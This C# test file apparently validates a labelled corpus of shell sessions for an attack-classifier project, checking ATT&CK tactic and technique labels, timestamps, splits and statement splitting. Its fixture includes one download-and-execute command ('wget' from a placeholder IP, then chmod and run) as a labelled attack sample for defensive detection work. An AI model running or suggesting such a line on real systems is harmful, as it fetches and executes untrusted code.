using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using AttackClassifier.Attack;
using AttackClassifier.Data;
using AttackClassifier.Normalization;

namespace AttackClassifier.Tests.Data;

/// <summary>The labelled session corpus (data/sessions-*.csv, written by data/make_sessions.py) keeps the promises
/// data/SESSIONS.md makes. Every check is also run on a deliberately broken copy, so a check that cannot fail fails.</summary>
public class SessionCorpusTests
{
    internal const string Header = "session_id,split,family,source,host,user,timestamp,command_index,command,statement_index,statement,tactic,technique,host_family";

    private static string PathOf(string platform) => Path.Combine(AppContext.BaseDirectory, "data", $"sessions-{platform}.csv");

    // Linux: the issue's ≥ 150 hand-written families; Windows is the smaller set.
    public static TheoryData<string, int> Files => new() { { "linux", 150 }, { "windows", 20 } };

    [Theory]
    [MemberData(nameof(Files))]
    public void Shipped_file_passes_every_check(string platform, int minHandwrittenFamilies)
    {
        string text = File.ReadAllText(PathOf(platform));
        SessionCorpusSummary summary = SessionCorpusCheck.Run(text, $"sessions-{platform}.csv", out List<string> problems);
        Assert.True(problems.Count == 0, string.Join("\n", problems.Take(20)));
        Assert.True(summary.HandwrittenFamilies >= minHandwrittenFamilies, $"{summary.HandwrittenFamilies} hand-written families");
        Assert.InRange(summary.TestShare, 0.15, 0.30);
        Assert.True(summary.Sources.SetEquals(["handwritten", "atomic", "benign", "mixed"]), string.Join(",", summary.Sources));
    }

    [Fact]
    public void Linux_file_has_the_promised_size_and_every_tactic_of_the_chain()
    {
        SessionCorpusSummary s = SessionCorpusCheck.Run(File.ReadAllText(PathOf("linux")), "sessions-linux.csv", out List<string> problems);
        Assert.Empty(problems);
        Assert.True(s.Sessions >= 4000, $"{s.Sessions} sessions");
        Assert.True(s.Statements >= 30000, $"{s.Statements} statements");
        foreach (string tactic in new[] { "discovery", "execution", "persistence", "privilege-escalation", "defense-evasion",
                                          "credential-access", "collection", "command-and-control", "exfiltration", "benign" })
            Assert.True(s.StatementsPerTactic.GetValueOrDefault(tactic) >= 200, $"{tactic}: {s.StatementsPerTactic.GetValueOrDefault(tactic)}");
    }

    [Fact]
    public void Windows_file_has_the_promised_size()
    {
        SessionCorpusSummary s = SessionCorpusCheck.Run(File.ReadAllText(PathOf("windows")), "sessions-windows.csv", out List<string> problems);
        Assert.Empty(problems);
        Assert.True(s.Sessions >= 400, $"{s.Sessions} sessions");
    }

    // A small well-formed corpus of two hand-written families; each broken variant below changes one thing.
    private static string Good()
    {
        Dictionary<string, string> split = SessionCorpusCheck.HeldOut(["fa", "fb"]);
        string test = split.Single(s => s.Value == "test").Key, train = split.Single(s => s.Value == "train").Key;
        var sb = new StringBuilder(Header).Append('\n');
        for (int s = 0; s < 8; s++)
        {
            string family = s == 0 ? test : train;
            string id = $"lin-{s:D5}";
            string p = $"{id},{split[family]},{family},handwritten,web-01,root,";
            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,0,cat /proc/cpuinfo,discovery,T1082,\n");
            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,grep name,discovery,T1082,\n");
            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,2,wc -l,discovery,T1082,\n");
            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",0,wget http://192.0.2.7/x,command-and-control,T1105,\n");
            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",1,chmod +x x,execution,T1059.004,\n");
            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",2,./x,execution,T1059.004,\n");
            sb.Append(p).Append("2026-01-05T10:00:09.000Z,2,ls -la,0,ls -la,benign,,\n");
        }
        return sb.ToString();
    }

    [Fact]
    public void Held_out_families_are_every_fifth_in_hash_order()
    {
        string[] names = [.. Enumerable.Range(0, 23).Select(i => $"family-{i}")];
        Dictionary<string, string> split = SessionCorpusCheck.HeldOut(names);
        Assert.Equal(5, split.Values.Count(v => v == "test"));   // ranks 0, 5, 10, 15, 20
        string first = names.OrderBy(n => Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(n))), StringComparer.Ordinal).First();
        Assert.Equal("test", split[first]);
        Assert.Equal(split, SessionCorpusCheck.HeldOut(names.Reverse()));   // a function of the set, not of the order
    }

    [Fact]
    public void The_well_formed_example_passes()
    {
        SessionCorpusSummary s = SessionCorpusCheck.Run(Good(), "good", out List<string> problems);
        Assert.True(problems.Count == 0, string.Join("\n", problems));
        Assert.Equal(8, s.Sessions);
        Assert.Equal(56, s.Statements);
    }

    public static TheoryData<string, string, string> Breakages => new()
    {
        { "statement,tactic,technique,host_family\n", "statement,technique,tactic,host_family\n", "line 1: header" },
        { ",discovery,T1082,\n", ",discoverie,T1082,\n", "not an ATT&CK tactic shortname" },
        { ",discovery,T1082,\n", ",execution,T1082,\n", "does not serve" },
        { ",execution,T1059.004,\n", ",defense-evasion,T1059.004,\n", "does not serve" },
        { ",discovery,T1082,\n", ",discovery,T9999,\n", "not in the catalog" },
        { ",benign,,\n", ",benign,T1082,\n", "benign statement carries technique" },
        { ",discovery,T1082,\n", ",discovery,,\n", "without a technique" },
        { ",0,cat /proc/cpuinfo,", ",0,cat /proc/cpuinfo | grep name,", "is not the splitter's" },
        { ",1,grep name,", ",1,grep  name,", "is not the splitter's" },
        { "T10:00:09.000Z", "T09:59:59.000Z", "earlier than the previous command" },
        { "T10:00:09.000Z", "10:00:09", "is not ISO-8601 UTC" },
        { ",2,ls -la,0,", ",3,ls -la,0,", "command_index 3 follows 1" },
        { ",handwritten,web-01,", ",handwriten,web-01,", "source 'handwriten'" },
        { ",web-01,root,", ",web-01root,", "13 fields" },
        { ",benign,,\n", ",benign,,admin-x\n", "host_family on a handwritten session" },
        { ",handwritten,web-01,", ",mixed,web-01,", "of a mixed session is not a benign family" },
        { "web-01,root,2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "web-02,root,2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "host or user" },
        { "T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "T10:00:01.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "different timestamps" },
        { ",0,cat /proc/cpuinfo | grep name | wc -l,1,grep name,", ",0,cat /proc/cpuinfo | grep name  | wc -l,1,grep name,", "different command text" },
        { ",1,grep name,", ",2,grep name,", "statement_index 2" },
    };

    [Theory]
    [MemberData(nameof(Breakages))]
    public void A_broken_file_is_reported(string from, string to, string expectedInProblem)
    {
        string good = Good();
        string broken = ReplaceFirst(good, from, to);
        Assert.NotEqual(good, broken);
        SessionCorpusCheck.Run(broken, "broken", out List<string> problems);
        Assert.Contains(problems, p => p.Contains(expectedInProblem, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void A_family_in_both_splits_and_a_split_off_the_rule_are_reported()
    {
        string good = Good();
        string onlyTrain = good.Split('\n')[8].Split(',')[2];   // session 1's family (train)
        string broken = ReplaceFirst(good, $",train,{onlyTrain},", $",test,{onlyTrain},");
        SessionCorpusCheck.Run(broken, "broken", out List<string> problems);
        Assert.Contains(problems, p => p.Contains("both splits", StringComparison.Ordinal));
        Assert.Contains(problems, p => p.Contains("split rule", StringComparison.Ordinal));
    }

    [Fact]
    public void A_session_that_resumes_after_another_is_reported()
    {
        string[] lines = Good().TrimEnd('\n').Split('\n');
        // Move session 0's last row after session 1.
        string moved = lines[7];
        var order = lines.Take(7).Concat(lines.Skip(8).Take(7)).Append(moved).Concat(lines.Skip(15));
        SessionCorpusCheck.Run(string.Join('\n', order) + "\n", "broken", out List<string> problems);
        Assert.Contains(problems, p => p.Contains("contiguous", StringComparison.Ordinal));
    }

    [Fact]
    public void A_missing_statement_row_is_reported()
    {
        string[] lines = Good().TrimEnd('\n').Split('\n');
        Assert.EndsWith(",wc -l,discovery,T1082,", lines[3], StringComparison.Ordinal);
        SessionCorpusCheck.Run(string.Join('\n', lines.Where((_, i) => i != 3)) + "\n", "broken", out List<string> problems);
        Assert.Contains(problems, p => p.Contains("has 2 statement rows, the splitter gives 3", StringComparison.Ordinal));
    }

    [Fact]
    public void Too_few_test_sessions_show_in_the_share()
    {
        string[] lines = Good().TrimEnd('\n').Split('\n');
        SessionCorpusSummary s = SessionCorpusCheck.Run(string.Join('\n', lines.Where((_, i) => i == 0 || i > 7)) + "\n", "no-test", out _);
        Assert.Equal(0.0, s.TestShare);
        Assert.Equal(2, SessionCorpusCheck.Run(Good(), "good", out _).HandwrittenFamilies);
    }

    private static string ReplaceFirst(string text, string from, string to)
    {
        int at = text.IndexOf(from, StringComparison.Ordinal);
        Assert.True(at >= 0, $"'{from}' not in the example");
        return string.Concat(text.AsSpan(0, at), to, text.AsSpan(at + from.Length));
    }
}

internal sealed record SessionCorpusSummary(int Sessions, int Statements, int HandwrittenFamilies, double TestShare,
                                            HashSet<string> Sources, Dictionary<string, int> StatementsPerTactic);

/// <summary>Reads a session corpus and lists every way it breaks the rules of data/SESSIONS.md, naming the line.</summary>
internal static class SessionCorpusCheck
{
    private static readonly HashSet<string> s_splits = ["train", "test"];
    private static readonly HashSet<string> s_sources = ["handwritten", "atomic", "benign", "mixed"];

    /// <summary>The split rule of one group of families: names ordered by the lower-case hex SHA-256 of their UTF-8 bytes
    /// (then by name), ranks 0, 5, 10, … are "test", the others "train".</summary>
    internal static Dictionary<string, string> HeldOut(IEnumerable<string> names)
    {
        string[] ordered = [.. names.Distinct(StringComparer.Ordinal)
                                    .OrderBy(n => Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(n))), StringComparer.Ordinal)
                                    .ThenBy(n => n, StringComparer.Ordinal)];
        return ordered.Select((n, rank) => (n, rank)).ToDictionary(x => x.n, x => x.rank % 5 == 0 ? "test" : "train", StringComparer.Ordinal);
    }

    internal static SessionCorpusSummary Run(string text, string source, out List<string> problems)
    {
        var found = new List<string>();
        void Problem(long line, string message) => found.Add($"{source} line {line}: {message}");
        AttackCatalog catalog = AttackCatalog.Default;
        var tactics = catalog.Tactics.Select(t => t.ShortName).ToHashSet(StringComparer.Ordinal);

        var reader = new CsvRecordReader(new StringReader(text), source);
        var fields = new List<string>();
        if (!reader.TryReadRecord(fields) || string.Join(',', fields) != SessionCorpusTests.Header)
            Problem(1, $"header is '{string.Join(',', fields)}', expected '{SessionCorpusTests.Header}'");

        var splitOfFamily = new Dictionary<string, string>(StringComparer.Ordinal);
        var splitsOfFamily = new Dictionary<string, (string Group, long FirstLine, HashSet<string> Splits)>(StringComparer.Ordinal);
        var familiesInBoth = new HashSet<string>(StringComparer.Ordinal);
        var finished = new HashSet<string>(StringComparer.Ordinal);
        var handwritten = new HashSet<string>(StringComparer.Ordinal);
        var sources = new HashSet<string>(StringComparer.Ordinal);
        var perTactic = new Dictionary<string, int>(StringComparer.Ordinal);
        var hostFamilies = new List<(long Line, string Family, string Split)>();
        int sessions = 0, testSessions = 0, statements = 0;

        // The session being read and the command being read.
        string? sessionId = null, sessionKey = null;
        DateTime previousTime = DateTime.MinValue;
        int commandIndex = -1;
        string? command = null;
        List<string>? expectedStatements = null;
        int statementIndex = 0;
        DateTime commandTime = default;
        long commandLine = 0;

        void CloseCommand()
        {
            if (command is not null && expectedStatements is not null && statementIndex != expectedStatements.Count)
                Problem(commandLine, $"command {commandIndex} has {statementIndex} statement rows, the splitter gives {expectedStatements.Count}");
            command = null;
        }

        while (reader.TryReadRecord(fields))
        {
            long line = reader.RecordLine;
            statements++;
            if (fields.Count != 14) { Problem(line, $"{fields.Count} fields, expected 14"); continue; }
            string id = fields[0], split = fields[1], family = fields[2], src = fields[3], host = fields[4], user = fields[5];
            string stamp = fields[6], commandText = fields[8], statement = fields[10], tactic = fields[11], technique = fields[12], hostFamily = fields[13];

            if (!s_splits.Contains(split)) Problem(line, $"split '{split}' is not train or test");
            if (!s_sources.Contains(src)) Problem(line, $"source '{src}' is not one of {string.Join(", ", s_sources)}");
            if (family.Length == 0) Problem(line, "empty family");
            // A mixed session names the benign family of its host activity, which must be of its own split (checked at the end).
            if (src == "mixed") hostFamilies.Add((line, hostFamily, split));
            else if (hostFamily.Length != 0) Problem(line, $"host_family on a {src} session");
            // Mixed sessions are held out with their attacker template, so they share the hand-written group.
            string group = src == "mixed" ? "handwritten" : src;
            if (!splitsOfFamily.TryGetValue(family, out var seenHere)) splitsOfFamily[family] = seenHere = (group, line, []);
            if (seenHere.Group != group) Problem(line, $"family '{family}' is both {seenHere.Group} and {group}");
            seenHere.Splits.Add(split);
            if (splitOfFamily.TryGetValue(family, out string? seen) && seen != split && familiesInBoth.Add(family))
                Problem(line, $"family '{family}' is in both splits");
            splitOfFamily.TryAdd(family, split);

            // Labels.
            if (tactic == "benign")
            {
                if (technique.Length != 0) Problem(line, $"a benign statement carries technique '{technique}'");
            }
            else if (!tactics.Contains(tactic)) Problem(line, $"tactic '{tactic}' is not an ATT&CK tactic shortname or benign");
            else if (technique.Length == 0) Problem(line, $"tactic '{tactic}' without a technique");
            else if (!AttackCatalog.TryParseTechniqueId(technique, out string parsed) || parsed != technique || catalog.FindTechnique(technique) is not { } t)
                Problem(line, $"technique '{technique}' is not in the catalog");
            else if (!t.Tactics.Any(x => x.ShortName == tactic))
                Problem(line, $"technique {technique} does not serve tactic {tactic} (it serves {string.Join(", ", t.Tactics.Select(x => x.ShortName))})");
            perTactic[tactic] = perTactic.GetValueOrDefault(tactic) + 1;

            if (!DateTime.TryParseExact(stamp, "yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture,
                    DateTimeStyles.AssumeUniversal | DateTimeStyles.AdjustToUniversal, out DateTime time))
            {
                Problem(line, $"timestamp '{stamp}' is not ISO-8601 UTC (yyyy-MM-ddTHH:mm:ss.fffZ)");
                time = previousTime;
            }
            if (!int.TryParse(fields[7], NumberStyles.None, CultureInfo.InvariantCulture, out int ci)) { Problem(line, $"command_index '{fields[7]}'"); continue; }
            if (!int.TryParse(fields[9], NumberStyles.None, CultureInfo.InvariantCulture, out int si)) { Problem(line, $"statement_index '{fields[9]}'"); continue; }

            // Session boundaries: contiguous rows, constant attributes.
            string key = string.Join('\u0001', split, family, src, host, user);
            if (id != sessionId)
            {
                CloseCommand();
                if (sessionId is not null) finished.Add(sessionId);
                if (finished.Contains(id)) Problem(line, $"session {id} is not contiguous: it resumes after another session");
                sessionId = id;
                sessionKey = key;
                sessions++;
                if (split == "test") testSessions++;
                if (src == "handwritten") handwritten.Add(family);
                sources.Add(src);
                commandIndex = -1;
                previousTime = DateTime.MinValue;
            }
            else if (key != sessionKey) Problem(line, $"session {id} changes split, family, source, host or user");

            // Commands: indices 0, 1, 2, … and statements 0, 1, … as the library's splitter gives them.
            if (ci != commandIndex)
            {
                CloseCommand();
                if (ci != commandIndex + 1) Problem(line, $"command_index {ci} follows {commandIndex}");
                if (si != 0) Problem(line, $"command {ci} starts at statement_index {si}");
                commandIndex = ci;
                command = commandText;
                commandLine = line;
                commandTime = time;
                expectedStatements = [.. StatementSplitter.Split(commandText, ShellDialects.Detect(commandText)).Select(p => commandText.Substring(p.Start, p.Length))];
                statementIndex = 0;
                if (time < previousTime) Problem(line, $"timestamp {stamp} is earlier than the previous command's");
                previousTime = time;
            }
            else
            {
                if (commandText != command) Problem(line, "a statement row of the command carries a different command text");
                if (time != commandTime) Problem(line, "statements of one command carry different timestamps");
                if (si != statementIndex) Problem(line, $"statement_index {si}, expected {statementIndex}");
            }
            if (expectedStatements is not null)
            {
                if (si >= expectedStatements.Count) Problem(line, $"statement {si} of a command the splitter cuts into {expectedStatements.Count}");
                else if (expectedStatements[si] != statement) Problem(line, $"statement '{statement}' is not the splitter's '{expectedStatements[si]}'");
            }
            statementIndex = si + 1;
        }
        CloseCommand();
        foreach (var (hostLine, hostFamily, hostSplit) in hostFamilies)
            if (!splitsOfFamily.TryGetValue(hostFamily, out var benign) || benign.Group != "benign")
                Problem(hostLine, $"host_family '{hostFamily}' of a mixed session is not a benign family");
            else if (!benign.Splits.SetEquals([hostSplit]))
                Problem(hostLine, $"host_family '{hostFamily}' is not of the mixed session's split {hostSplit}");
        foreach (var byGroup in splitsOfFamily.GroupBy(f => f.Value.Group, StringComparer.Ordinal))
        {
            Dictionary<string, string> rule = HeldOut(byGroup.Select(f => f.Key));
            foreach (var (family, (_, firstLine, splits)) in byGroup)
                foreach (string wrong in splits.Where(x => x != rule[family]))
                    Problem(firstLine, $"family '{family}' has {wrong} sessions, the split rule puts it in {rule[family]}");
        }
        problems = found;
        return new SessionCorpusSummary(sessions, statements, handwritten.Count, sessions == 0 ? 0 : testSessions / (double)sessions, sources, perTactic);
    }
}
